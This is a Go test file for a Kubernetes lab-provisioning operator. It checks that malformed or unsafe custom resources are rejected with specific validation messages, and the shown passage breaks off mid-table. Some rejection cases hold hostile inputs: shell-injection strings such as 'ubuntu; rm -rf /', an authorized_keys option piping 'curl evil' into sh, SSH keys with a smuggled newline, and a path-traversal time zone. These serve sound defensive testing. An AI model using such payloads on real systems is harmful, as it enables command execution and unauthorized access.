package api_test

import (
	"context"
	"strconv"
	"strings"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"sigs.k8s.io/controller-runtime/pkg/client"
)

const aliceKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGm0Y9ZsqJqj0V2tLxZf0bC7vQ5s8m3y8zJQ0fQy1d4X alice@laptop"

func object(kind, name string, spec map[string]any) *unstructured.Unstructured {
	u := &unstructured.Unstructured{Object: map[string]any{
		"apiVersion": "labforge.dev/v1alpha1",
		"kind":       kind,
		"metadata":   map[string]any{"name": name},
		"spec":       spec,
	}}
	if kind == "LabClaim" {
		u.SetNamespace("default")
	}
	return u
}

func template(name string) *unstructured.Unstructured {
	return object("LabTemplate", name, map[string]any{
		"kubernetesVersion": "v1.36.3",
		"image":             map[string]any{"containerDisk": "quay.io/containerdisks/ubuntu:22.04"},
	})
}

func pool(name string) *unstructured.Unstructured {
	return object("LabPool", name, map[string]any{"templateRef": map[string]any{"name": "t"}})
}

// window is a schedule window of a pool, "class" at 09:00 on weekdays for 2h, with fields
// added or replacing those.
func window(fields map[string]any) map[string]any {
	w := map[string]any{"name": "class", "start": "0 9 * * MON-FRI", "duration": "2h"}
	for k, v := range fields {
		w[k] = v
	}
	return w
}

func claim(name string) *unstructured.Unstructured {
	return object("LabClaim", name, map[string]any{
		"poolRef": map[string]any{"name": "p"},
		"ssh":     map[string]any{"authorizedKeys": []any{aliceKey}},
	})
}

func environment(name string) *unstructured.Unstructured {
	return object("LabEnvironment", name, map[string]any{"templateRef": map[string]any{"name": "t"}})
}

// set sets a field below spec, given as a dotted path. It runs while the test tree is
// built, so it panics instead of asserting.
func set(u *unstructured.Unstructured, path string, value any) *unstructured.Unstructured {
	if err := unstructured.SetNestedField(u.Object, value, append([]string{"spec"}, strings.Split(path, ".")...)...); err != nil {
		panic(err)
	}
	return u
}

func unset(u *unstructured.Unstructured, path string) *unstructured.Unstructured {
	unstructured.RemoveNestedField(u.Object, append([]string{"spec"}, strings.Split(path, ".")...)...)
	return u
}

func named(u *unstructured.Unstructured, name string) *unstructured.Unstructured {
	u.SetName(name)
	return u
}

// expectRejected creates u and expects the API server to refuse it with want in the
// message, and nothing to be stored.
func expectRejected(ctx context.Context, u *unstructured.Unstructured, want string) {
	err := k8s.Create(ctx, u.DeepCopy(), client.FieldValidation("Strict"))
	Expect(err).To(HaveOccurred(), "the API server accepted an invalid %s", u.GetKind())
	Expect(apierrors.IsInvalid(err) || apierrors.IsBadRequest(err)).To(BeTrue(), "unexpected error kind: %v", err)
	Expect(err.Error()).To(ContainSubstring(want))
	got := &unstructured.Unstructured{}
	got.SetGroupVersionKind(u.GroupVersionKind())
	Expect(apierrors.IsNotFound(k8s.Get(ctx, client.ObjectKeyFromObject(u), got))).To(BeTrue(), "a rejected object was stored")
}

// expectUpdateRejected creates u, applies change to it and expects the update to be
// refused with want in the message, the stored object unchanged.
func expectUpdateRejected(ctx context.Context, u *unstructured.Unstructured, change func(*unstructured.Unstructured), want string) {
	u = u.DeepCopy()
	Expect(k8s.Create(ctx, u)).To(Succeed())
	DeferCleanup(func(ctx context.Context) { Expect(client.IgnoreNotFound(k8s.Delete(ctx, u))).To(Succeed()) })
	before := u.DeepCopy()
	change(u)
	err := k8s.Update(ctx, u)
	Expect(err).To(HaveOccurred(), "the API server accepted an invalid update of %s", u.GetKind())
	Expect(apierrors.IsInvalid(err)).To(BeTrue(), "unexpected error kind: %v", err)
	Expect(err.Error()).To(ContainSubstring(want))
	got := before.DeepCopy()
	Expect(k8s.Get(ctx, client.ObjectKeyFromObject(before), got)).To(Succeed())
	Expect(got.Object["spec"]).To(Equal(before.Object["spec"]))
}

func withClaimRef(u *unstructured.Unstructured, name, uid string) *unstructured.Unstructured {
	return set(u, "claimRef", map[string]any{"namespace": "default", "name": name, "uid": uid})
}

// withTerms gives a lab the terms a bind records for its claim.
func withTerms(u *unstructured.Unstructured, maximum, user string) *unstructured.Unstructured {
	return set(u, "terms", map[string]any{"boundTime": "2026-12-06T09:00:00Z",
		"lifetime": map[string]any{"default": "24h", "maximum": maximum}, "sshUser": user})
}

var _ = Describe("Invalid labforge objects", func() {
	DescribeTable("are rejected on create with a message naming the field",
		expectRejected,

		Entry("template: zero default lifetime", set(template("t"), "lifetime.default", "0s"),
			`spec.lifetime.default: Invalid value: "0s": lifetime.default must be at least 1m`),
		Entry("template: negative default lifetime", set(template("t"), "lifetime.default", "-1h"),
			`spec.lifetime.default: Invalid value: "-1h": lifetime.default must be at least 1m`),
		Entry("template: a lifetime that is not a duration", set(template("t"), "lifetime.maximum", "forever"),
			`spec.lifetime.maximum`),
		Entry("template: default lifetime above the maximum", set(set(template("t"), "lifetime.default", "10h"), "lifetime.maximum", "4h"),
			`spec: Invalid value: lifetime.default must not exceed lifetime.maximum`),
		Entry("template: too many workers", set(template("t"), "workers.count", int64(11)),
			`spec.workers.count: Invalid value: 11: spec.workers.count in body should be less than or equal to 10`),
		Entry("template: negative workers", set(template("t"), "workers.count", int64(-1)),
			`spec.workers.count: Invalid value: -1: spec.workers.count in body should be greater than or equal to 0`),
		Entry("template: control plane memory below kubeadm's minimum", set(template("t"), "controlPlane", map[string]any{"cores": int64(2), "memory": "1Gi"}),
			`spec.controlPlane.memory: Invalid value: controlPlane.memory must be at least 1700Mi for kubeadm`),
		Entry("template: control plane with one vCPU", set(template("t"), "controlPlane", map[string]any{"cores": int64(1), "memory": "2Gi"}),
			`spec.controlPlane.cores: Invalid value: controlPlane needs at least 2 vCPUs (cores * threads) for kubeadm`),
		Entry("template: worker memory too small", set(template("t"), "workers", map[string]any{"count": int64(1), "memory": "256Mi"}),
			`spec.workers.memory: Invalid value: "256Mi": memory must be between 512Mi and 64Gi`),
		Entry("template: memory that is not a quantity", set(template("t"), "workers", map[string]any{"count": int64(1), "memory": "lots"}),
			`spec.workers.memory`),
		Entry("template: too many threads", set(template("t"), "workers", map[string]any{"threads": int64(4), "memory": "1Gi"}),
			`spec.workers.threads: Invalid value: 4: spec.workers.threads in body should be less than or equal to 2`),
		Entry("template: version without the v", set(template("t"), "kubernetesVersion", "1.36.3"),
			`spec.kubernetesVersion: Invalid value: "1.36.3": kubernetesVersion must look like v1.36.3`),
		Entry("template: root as the SSH user", set(template("t"), "sshUser", "root"),
			`spec.sshUser: Invalid value: "root": sshUser must not be root: students get root through sudo`),
		Entry("template: SSH user with shell characters", set(template("t"), "sshUser", "bob;reboot"),
			`spec.sshUser: Invalid value: "bob;reboot": sshUser must be a lowercase POSIX user name`),
		Entry("template: image with shell characters", set(template("t"), "image.containerDisk", "ubuntu; rm -rf /"),
			`spec.image.containerDisk: Invalid value: "ubuntu; rm -rf /": containerDisk must be an image reference without spaces or shell characters`),
		Entry("template: no image", unset(template("t"), "image"),
			`spec.image: Required value`),
		Entry("template: pod range that is not a CIDR", set(template("t"), "network.podCIDR", "10.0.0.0/33"),
			`spec.network.podCIDR: Invalid value: "10.0.0.0/33": podCIDR must be an IPv4 CIDR with a prefix length between 8 and 24`),
		Entry("template: overlapping pod and service ranges", set(set(template("t"), "network.podCIDR", "10.200.0.0/16"), "network.serviceCIDR", "10.200.128.0/20"),
			`spec.network: Invalid value: podCIDR and serviceCIDR must not overlap`),
		Entry("template: the host CNI's tunnel port", set(template("t"), "network.tunnelPort", int64(8472)),
			`spec.network.tunnelPort: Invalid value: 8472: tunnelPort must not be 4789 or 8472, the host CNI's usual VXLAN ports`),
		Entry("template: a claims namespace selector with In and no values", set(template("t"), "claims", map[string]any{
			"namespaceSelector": map[string]any{"matchExpressions": []any{map[string]any{"key": "classroom", "operator": "In"}}}}),
			`spec.claims.namespaceSelector: Invalid value: claims.namespaceSelector.matchExpressions: the operator must be In or NotIn with values, or Exists or DoesNotExist without values`),
		Entry("template: claims capped at no lab", set(template("t"), "claims", map[string]any{"maxLabs": int64(0)}),
			`spec.claims.maxLabs: Invalid value: 0: spec.claims.maxLabs in body should be greater than or equal to 1`),
		Entry("template: an egress exception that is not a CIDR", set(template("t"), "network.egressExceptCIDRs", []any{"everything"}),
			`spec.network.egressExceptCIDRs[0]: Invalid value: "everything": egressExceptCIDRs entries must be CIDRs such as 192.0.2.0/24`),
		Entry("template: internet egress neither Allow nor Deny", set(template("t"), "network.internetEgress", "Off"),
			`spec.network.internetEgress: Unsupported value: "Off": supported values: "Allow", "Deny"`),
		Entry("template: a bandwidth limit below 1M", set(template("t"), "network.bandwidth", map[string]any{"ingress": "1k"}),
			`spec.network.bandwidth.ingress: Invalid value: "1k": ingress bandwidth must be between 1M and 100G`),
		Entry("template: an empty bandwidth block", set(template("t"), "network.bandwidth", map[string]any{}),
			`spec.network.bandwidth: Invalid value: bandwidth needs ingress, egress or both`),
		Entry("template: an empty scenario script", set(template("t"), "scenario", map[string]any{"script": ""}),
			`spec.scenario.script: Invalid value: "": spec.scenario.script in body should be at least 1 chars long`),
		Entry("template: a description over 4096 characters", set(template("t"), "description", strings.Repeat("x", 4097)),
			`spec.description: Too long: may not be more than 4096 bytes`),
		Entry("template: 21 hints", set(template("t"), "hints", func() []any {
			h := make([]any, 21)
			for i := range h {
				h[i] = "hint"
			}
			return h
		}()), `spec.hints: Too many: 21: must have at most 20 items`),
		Entry("template: a misspelled field", set(template("t"), "workerz", int64(1)),
			`unknown field "spec.workerz"`),
		Entry("template: a name with a dot", named(template("t"), "a.b"),
			`metadata.name must be a DNS label (at most 63 lowercase letters, digits and '-')`),

		Entry("template: no Kubernetes version", unset(template("t"), "kubernetesVersion"),
			`spec.kubernetesVersion: Required value`),
		Entry("template: a version over 16 characters", set(template("t"), "kubernetesVersion", "v1.36.3-"+strings.Repeat("9", 9)),
			`spec.kubernetesVersion: Too long: may not be more than 16 bytes`),
		Entry("template: a hint over 1024 characters", set(template("t"), "hints", []any{strings.Repeat("h", 1025)}),
			`spec.hints[0]: Too long: may not be more than 1024 bytes`),
		Entry("template: an empty image", set(template("t"), "image.containerDisk", ""),
			`spec.image.containerDisk: Invalid value: "": spec.image.containerDisk in body should be at least 1 chars long`),
		Entry("template: an image reference over 512 characters", set(template("t"), "image.containerDisk", "quay.io/"+strings.Repeat("i", 505)),
			`spec.image.containerDisk: Too long: may not be more than 512 bytes`),
		Entry("template: an image reference starting with a dash", set(template("t"), "image.containerDisk", "--privileged"),
			`spec.image.containerDisk: Invalid value: "--privileged": containerDisk must be an image reference without spaces or shell characters`),
		Entry("template: zero cores", set(template("t"), "workers", map[string]any{"cores": int64(0), "memory": "1Gi"}),
			`spec.workers.cores: Invalid value: 0: spec.workers.cores in body should be greater than or equal to 1`),
		Entry("template: 17 cores", set(template("t"), "controlPlane", map[string]any{"cores": int64(17), "memory": "2Gi"}),
			`spec.controlPlane.cores: Invalid value: 17: spec.controlPlane.cores in body should be less than or equal to 16`),
		Entry("template: zero threads", set(template("t"), "workers", map[string]any{"threads": int64(0), "memory": "1Gi"}),
			`spec.workers.threads: Invalid value: 0: spec.workers.threads in body should be greater than or equal to 1`),
		Entry("template: worker memory over 64Gi", set(template("t"), "workers", map[string]any{"count": int64(1), "memory": "65Gi"}),
			`spec.workers.memory: Invalid value: "65Gi": memory must be between 512Mi and 64Gi`),
		Entry("template: control plane memory over 64Gi", set(template("t"), "controlPlane", map[string]any{"cores": int64(2), "memory": "1Ti"}),
			`spec.controlPlane.memory: Invalid value: "1Ti": memory must be between 512Mi and 64Gi`),
		Entry("template: a worker disk under 5Gi", set(template("t"), "workers", map[string]any{"count": int64(1), "memory": "1Gi", "disk": "4Gi"}),
			`spec.workers.disk: Invalid value: "4Gi": disk must be between 5Gi and 200Gi`),
		Entry("template: a control-plane disk over 200Gi", set(template("t"), "controlPlane", map[string]any{"cores": int64(2), "memory": "2Gi", "disk": "1Ti"}),
			`spec.controlPlane.disk: Invalid value: "1Ti": disk must be between 5Gi and 200Gi`),
		Entry("template: a disk that is not a quantity", set(template("t"), "workers", map[string]any{"count": int64(1), "memory": "1Gi", "disk": "big"}),
			`spec.workers.disk`),
		Entry("template: an SSH user over 32 characters", set(template("t"), "sshUser", strings.Repeat("u", 33)),
			`spec.sshUser: Too long: may not be more than 32 bytes`),
		Entry("template: an SSH user starting with a dash", set(template("t"), "sshUser", "-oProxyCommand"),
			`spec.sshUser: Invalid value: "-oProxyCommand": sshUser must be a lowercase POSIX user name`),
		Entry("template: a scenario script over 64 KiB", set(template("t"), "scenario", map[string]any{"script": strings.Repeat("#", 65537)}),
			`spec.scenario.script: Too long: may not be more than 65536 bytes`),
		Entry("template: a scenario without a script", set(template("t"), "scenario", map[string]any{}),
			`spec.scenario.script: Required value`),
		Entry("template: a maximum lifetime over 720h", set(template("t"), "lifetime.maximum", "721h"),
			`spec.lifetime.maximum: Invalid value: "721h": lifetime.maximum must be between 1m and 720h`),
		Entry("template: a maximum lifetime under 1m", set(set(template("t"), "lifetime.maximum", "59s"), "lifetime.default", "30s"),
			`spec.lifetime.maximum: Invalid value: "59s": lifetime.maximum must be between 1m and 720h`),
		Entry("template: a boot timeout under 1m", set(template("t"), "bootTimeout", "30s"),
			`spec.bootTimeout: Invalid value: "30s": bootTimeout must be between 1m and 2h`),
		Entry("template: a boot timeout over 2h", set(template("t"), "bootTimeout", "3h"),
			`spec.bootTimeout: Invalid value: "3h": bootTimeout must be between 1m and 2h`),
		Entry("template: a boot timeout that is not a duration", set(template("t"), "bootTimeout", "soon"),
			`spec.bootTimeout`),
		Entry("template: an IPv6 pod range", set(template("t"), "network.podCIDR", "fd00:10::/48"),
			`spec.network.podCIDR: Invalid value: "fd00:10::/48": podCIDR must be an IPv4 CIDR with a prefix length between 8 and 24`),
		Entry("template: a pod range wider than /8", set(template("t"), "network.podCIDR", "10.0.0.0/7"),
			`spec.network.podCIDR: Invalid value: "10.0.0.0/7": podCIDR must be an IPv4 CIDR with a prefix length between 8 and 24`),
		Entry("template: a pod range narrower than /24", set(template("t"), "network.podCIDR", "10.200.0.0/25"),
			`spec.network.podCIDR: Invalid value: "10.200.0.0/25": podCIDR must be an IPv4 CIDR with a prefix length between 8 and 24`),
		Entry("template: a pod range over 43 characters", set(template("t"), "network.podCIDR", strings.Repeat("1", 44)),
			`spec.network.podCIDR: Too long: may not be more than 43 bytes`),
		Entry("template: a service range that is not a CIDR", set(template("t"), "network.serviceCIDR", "10.201.0.0"),
			`spec.network.serviceCIDR: Invalid value: "10.201.0.0": serviceCIDR must be an IPv4 CIDR with a prefix length between 12 and 24`),
		Entry("template: a service range wider than /12", set(template("t"), "network.serviceCIDR", "10.0.0.0/11"),
			`spec.network.serviceCIDR: Invalid value: "10.0.0.0/11": serviceCIDR must be an IPv4 CIDR with a prefix length between 12 and 24`),
		Entry("template: an IPv6 service range", set(template("t"), "network.serviceCIDR", "fd00:20::/112"),
			`spec.network.serviceCIDR: Invalid value: "fd00:20::/112": serviceCIDR must be an IPv4 CIDR with a prefix length between 12 and 24`),
		Entry("template: a service range containing the pod range", set(set(template("t"), "network.podCIDR", "10.200.4.0/24"), "network.serviceCIDR", "10.200.0.0/16"),
			`spec.network: Invalid value: podCIDR and serviceCIDR must not overlap`),
		Entry("template: the VXLAN standard tunnel port", set(template("t"), "network.tunnelPort", int64(4789)),
			`spec.network.tunnelPort: Invalid value: 4789: tunnelPort must not be 4789 or 8472, the host CNI's usual VXLAN ports`),
		Entry("template: a privileged tunnel port", set(template("t"), "network.tunnelPort", int64(53)),
			`spec.network.tunnelPort: Invalid value: 53: spec.network.tunnelPort in body should be greater than or equal to 1024`),
		Entry("template: a tunnel port above 65535", set(template("t"), "network.tunnelPort", int64(65536)),
			`spec.network.tunnelPort: Invalid value: 65536: spec.network.tunnelPort in body should be less than or equal to 65535`),
		Entry("template: 33 egress exceptions", set(template("t"), "network.egressExceptCIDRs", func() []any {
			c := make([]any, 33)
			for i := range c {
				c[i] = "192.0." + strconv.Itoa(i) + ".0/24"
			}
			return c
		}()), `spec.network.egressExceptCIDRs: Too many: 33: must have at most 32 items`),
		Entry("template: an egress exception twice", set(template("t"), "network.egressExceptCIDRs", []any{"192.0.2.0/24", "192.0.2.0/24"}),
			`spec.network.egressExceptCIDRs[1]: Duplicate value: "192.0.2.0/24"`),
		Entry("template: an egress exception over 43 characters", set(template("t"), "network.egressExceptCIDRs", []any{strings.Repeat("1", 44)}),
			`spec.network.egressExceptCIDRs[0]: Too long: may not be more than 43 bytes`),
		Entry("template: an egress limit above 100G", set(template("t"), "network.bandwidth", map[string]any{"egress": "200G"}),
			`spec.network.bandwidth.egress: Invalid value: "200G": egress bandwidth must be between 1M and 100G`),
		Entry("template: a 64-character name", named(template("t"), strings.Repeat("t", 64)),
			`metadata.name must be a DNS label (at most 63 lowercase letters, digits and '-')`),

		Entry("pool: negative replicas", set(pool("p"), "replicas", int64(-1)),
			`spec.replicas: Invalid value: -1: spec.replicas in body should be greater than or equal to 0`),
		Entry("pool: more replicas than maxLabs", set(set(pool("p"), "replicas", int64(11)), "maxLabs", int64(10)),
			`spec.replicas: Invalid value: replicas must not exceed spec.maxLabs, the pool's hard cap on labs`),
		Entry("pool: zero maxBooting", set(pool("p"), "maxBooting", int64(0)),
			`spec.maxBooting: Invalid value: 0: spec.maxBooting in body should be greater than or equal to 1`),
		Entry("pool: an unknown update strategy", set(pool("p"), "updateStrategy.type", "Recreate"),
			`spec.updateStrategy.type: Unsupported value: "Recreate": supported values: "RollingUpdate", "OnDelete"`),
		Entry("pool: no template", unset(pool("p"), "templateRef"),
			`spec.templateRef: Required value`),
		Entry("pool: a 49-character name", named(pool("p"), strings.Repeat("p", 49)),
			`metadata.name must be a DNS label of at most 48 characters (lab names add a suffix)`),

		Entry("pool: a floor above the hard cap", set(set(pool("p"), "minLabs", int64(11)), "maxLabs", int64(10)),
			`spec.minLabs: Invalid value: minLabs must not exceed spec.maxLabs, the pool's hard cap on labs`),
		Entry("pool: a window that asks for nothing", set(pool("p"), "schedule", []any{window(nil)}),
			`a window sets minLabs, buffer or both`),
		Entry("pool: a window whose start carries a time zone", set(pool("p"), "schedule", []any{window(map[string]any{"start": "CRON_TZ=Europe/Berlin 0 9 * * *", "minLabs": int64(3)})}),
			`start must not carry a time zone: set timeZone`),
		Entry("pool: a window shorter than a minute", set(pool("p"), "schedule", []any{window(map[string]any{"duration": "30s", "minLabs": int64(3)})}),
			`duration must be between 1m and 168h`),
		Entry("pool: a window longer than a week", set(pool("p"), "schedule", []any{window(map[string]any{"duration": "169h", "buffer": int64(3)})}),
			`duration must be between 1m and 168h`),
		Entry("pool: a window warming up more than two hours ahead", set(pool("p"), "schedule", []any{window(map[string]any{"warmUp": "3h", "minLabs": int64(3)})}),
			`warmUp must be between 0s and 2h`),
		Entry("pool: a window warming up after its start", set(pool("p"), "schedule", []any{window(map[string]any{"warmUp": "-1m", "minLabs": int64(3)})}),
			`warmUp must be between 0s and 2h`),
		Entry("pool: a window's zone that is a path", set(pool("p"), "schedule", []any{window(map[string]any{"timeZone": "../../etc/passwd", "buffer": int64(1)})}),
			`spec.schedule[0].timeZone: Invalid value: "../../etc/passwd": spec.schedule[0].timeZone in body should match`),
		Entry("pool: two windows of one name", set(pool("p"), "schedule", []any{window(map[string]any{"buffer": int64(1)}), window(map[string]any{"buffer": int64(2)})}),
			`spec.schedule[1]: Duplicate value: {"name":"class"}`),
		Entry("pool: more than 1000 replicas", set(set(pool("p"), "replicas", int64(1001)), "maxLabs", int64(2000)),
			`spec.replicas: Invalid value: 1001: spec.replicas in body should be less than or equal to 1000`),
		Entry("pool: more than 1000 booting at once", set(pool("p"), "maxBooting", int64(1001)),
			`spec.maxBooting: Invalid value: 1001: spec.maxBooting in body should be less than or equal to 1000`),
		Entry("pool: negative maxLabs", set(set(pool("p"), "maxLabs", int64(-1)), "replicas", int64(0)),
			`spec.maxLabs: Invalid value: -1: spec.maxLabs in body should be greater than or equal to 0`),
		Entry("pool: maxLabs above 10000", set(pool("p"), "maxLabs", int64(10001)),
			`spec.maxLabs: Invalid value: 10001: spec.maxLabs in body should be less than or equal to 10000`),
		Entry("pool: a template name with capitals", set(pool("p"), "templateRef.name", "Broken-DNS"),
			`spec.templateRef.name: Invalid value: "Broken-DNS": spec.templateRef.name in body should match '^[a-z0-9]([-a-z0-9]*[a-z0-9])?$'`),
		Entry("pool: a template name that is a path", set(pool("p"), "templateRef.name", "../t"),
			`spec.templateRef.name: Invalid value: "../t": spec.templateRef.name in body should match '^[a-z0-9]([-a-z0-9]*[a-z0-9])?$'`),
		Entry("pool: an empty template name", set(pool("p"), "templateRef.name", ""),
			`spec.templateRef.name: Invalid value: "": spec.templateRef.name in body should be at least 1 chars long`),
		Entry("pool: a template name over 63 characters", set(pool("p"), "templateRef.name", strings.Repeat("t", 64)),
			`spec.templateRef.name: Too long: may not be more than 63 bytes`),
		Entry("pool: a namespace selector with an operator that does not exist", set(pool("p"), "claimNamespaceSelector", map[string]any{
			"matchExpressions": []any{map[string]any{"key": "team", "operator": "Like", "values": []any{"a"}}}}),
			`spec.claimNamespaceSelector: Invalid value: claimNamespaceSelector.matchExpressions: the operator must be In or NotIn with values, or Exists or DoesNotExist without values`),
		Entry("pool: a namespace selector with In and no values", set(pool("p"), "claimNamespaceSelector", map[string]any{
			"matchExpressions": []any{map[string]any{"key": "team", "operator": "In"}}}),
			`spec.claimNamespaceSelector: Invalid value: claimNamespaceSelector.matchExpressions: the operator must be In or NotIn with values, or Exists or DoesNotExist without values`),
		Entry("pool: a namespace selector with Exists and values", set(pool("p"), "claimNamespaceSelector", map[string]any{
			"matchExpressions": []any{map[string]any{"key": "team", "operator": "Exists", "values": []any{"a"}}}}),
			`spec.claimNamespaceSelector: Invalid value: claimNamespaceSelector.matchExpressions: the operator must be In or NotIn with values, or Exists or DoesNotExist without values`),
		Entry("pool: a template in another namespace", set(pool("p"), "templateRef.namespace", "kube-system"),
			`unknown field "spec.templateRef.namespace"`),

		Entry("claim: neither pool nor template", unset(claim("c"), "poolRef"),
			`spec: Invalid value: exactly one of poolRef and templateRef must be set`),
		Entry("claim: both pool and template", set(claim("c"), "templateRef", map[string]any{"name": "t"}),
			`spec: Invalid value: exactly one of poolRef and templateRef must be set`),
		Entry("claim: a zero duration", set(claim("c"), "duration", "0s"),
			`spec.duration: Invalid value: "0s": duration must be between 1m and 720h`),
		Entry("claim: a negative duration", set(claim("c"), "duration", "-5m"),
			`spec.duration: Invalid value: "-5m": duration must be between 1m and 720h`),
		Entry("claim: a duration over 720h", set(claim("c"), "duration", "721h"),
			`spec.duration: Invalid value: "721h": duration must be between 1m and 720h`),
		Entry("claim: no way to log in", set(claim("c"), "ssh", map[string]any{}),
			`spec.ssh: Invalid value: ssh needs authorizedKeys, generateKeyPair: true, or both`),
		Entry("claim: a key that is not a public key line", set(claim("c"), "ssh.authorizedKeys", []any{"not a key"}),
			`spec.ssh.authorizedKeys[0]: Invalid value: "not a key": each authorizedKeys entry must be one SSH public key line: type, base64 key and an optional comment, without options`),
		Entry("claim: a key with authorized_keys options", set(claim("c"), "ssh.authorizedKeys", []any{`command="curl evil|sh" ` + aliceKey}),
			keyRejected(`command="curl evil|sh" `+aliceKey)),
		Entry("claim: two keys smuggled in one line", set(claim("c"), "ssh.authorizedKeys", []any{aliceKey + "\n" + aliceKey}),
			keyRejected(aliceKey+"\n"+aliceKey)),
		Entry("claim: a newline in a key", set(claim("c"), "ssh.authorizedKeys", []any{aliceKey + "\nssh-rsa AAAAB3 mallory"}),
			keyRejected(aliceKey+"\nssh-rsa AAAAB3 mallory")),
		Entry("claim: a private key", set(claim("c"), "ssh.authorizedKeys", []any{"-----BEGIN OPENSSH PRIVATE KEY-----"}),
			`spec.ssh.authorizedKeys[0]: Invalid value: "-----BEGIN OPENSSH PRIVATE KEY-----": each authorizedKeys entry must be one SSH public key line`),
		Entry("claim: eleven keys", set(claim("c"), "ssh.authorizedKeys", func() []any {
			k := make([]any, 11)
			for i := range k {
				k[i] = aliceKey
			}
			return k
		}()), `spec.ssh.authorizedKeys: Too many: 11: must have at most 10 items`),
		Entry("claim: a 53-character name", named(claim("c"), strings.Repeat("c", 53)),
			`metadata.name must be a DNS label of at most 52 characters (Secret names add a suffix)`),

		Entry("claim: no ssh at all", unset(claim("c"), "ssh"),
			`spec.ssh: Required value`),
		Entry("claim: a duration that is not a duration", set(claim("c"), "duration", "forever"),
			`spec.duration`),
		Entry("claim: a pool name with a slash", set(claim("c"), "poolRef.name", "other-ns/p"),
			`spec.poolRef.name: Invalid value: "other-ns/p": spec.poolRef.name in body should match '^[a-z0-9]([-a-z0-9]*[a-z0-9])?$'`),
		Entry("claim: a template name with capitals", unset(set(claim("c"), "templateRef", map[string]any{"name": "T"}), "poolRef"),
			`spec.templateRef.name: Invalid value: "T": spec.templateRef.name in body should match '^[a-z0-9]([-a-z0-9]*[a-z0-9])?$'`),
		Entry("claim: a pool in another namespace", set(claim("c"), "poolRef.namespace", "bob"),
			`unknown field "spec.poolRef.namespace"`),
		Entry("claim: a Secret of its own choosing", set(claim("c"), "kubeconfigSecretRef", map[string]any{"namespace": "bob", "name": "bob-kubeconfig"}),
			`unknown field "spec.kubeconfigSecretRef"`),
		Entry("claim: a key over 4096 characters", set(claim("c"), "ssh.authorizedKeys", []any{"ssh-rsa AAAA" + strings.Repeat("A", 4090)}),
			`spec.ssh.authorizedKeys[0]: Too long: may not be more than 4096 bytes`),
		Entry("claim: a key comment over 256 characters", set(claim("c"), "ssh.authorizedKeys", []any{aliceKey + strings.Repeat("x", 250)}),
			keyRejected(aliceKey+strings.Repeat("x", 250))),
		Entry("claim: a key comment with a control character", set(claim("c"), "ssh.authorizedKeys", []any{aliceKey + "\x1b[2J"}),
			keyRejected(aliceKey+"\x1b[2J")),
		Entry("claim: a key of an unknown type", set(claim("c"), "ssh.authorizedKeys", []any{"ssh-dss AAAAB3NzaC1kc3MAAACBAP alice"}),
			keyRejected("ssh-dss AAAAB3NzaC1kc3MAAACBAP alice")),
		Entry("claim: a name with capitals", named(claim("c"), "Alice"),
			`metadata.name must be a DNS label of at most 52 characters (Secret names add a suffix)`),

		Entry("environment: a 60-character name", named(environment("e"), strings.Repeat("e", 60)),
			`metadata.name must be a DNS label of at most 59 characters (the lab namespace is lab-<name>)`),
		Entry("environment: a claim reference without a UID", set(environment("e"), "claimRef", map[string]any{"namespace": "default", "name": "alice"}),
			`spec.claimRef.uid: Required value`),

		Entry("environment: no template", unset(environment("e"), "templateRef"),
			`spec.templateRef: Required value`),
		Entry("environment: a claim reference without a namespace", set(environment("e"), "claimRef", map[string]any{"namespace": "", "name": "alice", "uid": "0b6d0f7e-3c5e-4b7a-9d7e-1f2a3b4c5d6e"}),
			`spec.claimRef.namespace: Invalid value: "": spec.claimRef.namespace in body should be at least 1 chars long`),
		Entry("environment: terms without a claim", withTerms(environment("e"), "48h", "student"),
			`spec: Invalid value: terms are set with claimRef, by the bind`),
		Entry("environment: terms logging in as root", withTerms(withClaimRef(environment("e"), "alice", "0b6d0f7e-3c5e-4b7a-9d7e-1f2a3b4c5d6e"), "48h", "root"),
			`spec.terms.sshUser: Invalid value: "root": sshUser must be a lowercase POSIX user name other than root`),
		Entry("environment: a claim UID over 36 characters", set(environment("e"), "claimRef", map[string]any{"namespace": "default", "name": "alice", "uid": strings.Repeat("u", 37)}),
			`spec.claimRef.uid: Too long: may not be more than 36 bytes`),
	)

	DescribeTable("are rejected on update with a message naming the field",
		expectUpdateRejected,

		Entry("claim: moving to another pool", claim("c-move"), func(u *unstructured.Unstructured) { set(u, "poolRef.name", "other") },
			`spec: Invalid value: poolRef is immutable`),
		Entry("claim: switching from a pool to a template", claim("c-switch"), func(u *unstructured.Unstructured) {
			unset(u, "poolRef")
			set(u, "templateRef", map[string]any{"name": "t"})
		}, `spec: Invalid value: poolRef is immutable`),
		Entry("claim: changing the SSH keys", claim("c-keys"), func(u *unstructured.Unstructured) { set(u, "ssh.generateKeyPair", true) },
			`spec: Invalid value: ssh is immutable`),
		Entry("claim: moving to another template", unset(set(claim("c-tmove"), "templateRef", map[string]any{"name": "t"}), "poolRef"),
			func(u *unstructured.Unstructured) { set(u, "templateRef.name", "other") },
			`spec: Invalid value: templateRef is immutable`),
		Entry("claim: switching from a template to a pool", unset(set(claim("c-tswitch"), "templateRef", map[string]any{"name": "t"}), "poolRef"),
			func(u *unstructured.Unstructured) {
				unset(u, "templateRef")
				set(u, "poolRef", map[string]any{"name": "p"})
			}, `spec: Invalid value: poolRef is immutable`),
		Entry("claim: a duration past 720h later", set(claim("c-long"), "duration", "1h"),
			func(u *unstructured.Unstructured) { set(u, "duration", "721h") },
			`spec.duration: Invalid value: "721h": duration must be between 1m and 720h`),
		Entry("environment: changing the template", environment("e-tmpl"), func(u *unstructured.Unstructured) { set(u, "templateRef.name", "other") },
			`spec: Invalid value: templateRef is immutable`),
		Entry("environment: handing a bound lab to another claim", withClaimRef(environment("e-rebind"), "alice", "0b6d0f7e-3c5e-4b7a-9d7e-1f2a3b4c5d6e"),
			func(u *unstructured.Unstructured) { withClaimRef(u, "mallory", "1b6d0f7e-3c5e-4b7a-9d7e-1f2a3b4c5d6e") },
			`spec: Invalid value: claimRef cannot be changed or removed once set: a lab is never handed to a second claim`),
		Entry("environment: unbinding a lab", withClaimRef(environment("e-unbind"), "alice", "0b6d0f7e-3c5e-4b7a-9d7e-1f2a3b4c5d6e"),
			func(u *unstructured.Unstructured) { unset(u, "claimRef") },
			`spec: Invalid value: claimRef cannot be changed or removed once set: a lab is never handed to a second claim`),
